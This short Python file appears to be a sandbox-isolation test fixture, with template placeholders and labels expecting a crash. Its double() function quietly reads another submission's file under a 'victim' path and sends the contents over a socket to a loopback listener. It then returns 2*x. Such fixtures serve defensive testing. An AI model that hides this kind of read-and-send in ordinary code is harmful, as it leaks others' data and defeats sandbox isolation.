"""Opens a TCP connection over IPv6, to the same listener.

must: crashed
harm: token
"""

import contextlib
import socket
from pathlib import Path


def double(x):
    found = "escaped"
    with contextlib.suppress(OSError):
        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as link:
        link.connect(("::ffff:127.0.0.1", int("@PORT@")))
        link.sendall(found.encode())
    return 2 * x


def triple(x):
    return 3 * x
